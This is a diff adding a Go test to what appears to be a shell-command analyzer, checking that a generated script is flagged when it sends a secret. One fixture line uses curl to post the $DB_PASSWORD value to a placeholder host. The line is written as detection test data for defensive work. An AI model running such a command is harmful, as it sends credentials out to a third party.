@@ -104,6 +104,18 @@ func TestDataThatLeaves(t *testing.T) {
 	}
 }
 
+// A script that was read says itself whether it sends what it is given.
+func TestScriptsThatAreGivenSecrets(t *testing.T) {
+	t.Parallel()
+	for body, sends := range map[string]bool{`mysql -u root -p"$1" app`: false, `curl -d "$1" https://h.test/`: true} {
+		text := "printf '%s\\n' '" + body + `' > t.sh; chmod +x t.sh; ./t.sh "$DB_PASSWORD"`
+		got := slices.ContainsFunc(Analyze(text, here()).Effects, func(e effect.Effect) bool { return e.Kind == effect.SendSecret })
+		if got != sends {
+			t.Errorf("%s: sends a secret %v, want %v", text, got, sends)
+		}
+	}
+}
+
 func TestSecretsThatAreShown(t *testing.T) {
 	t.Parallel()
 	for _, c := range [...]struct {
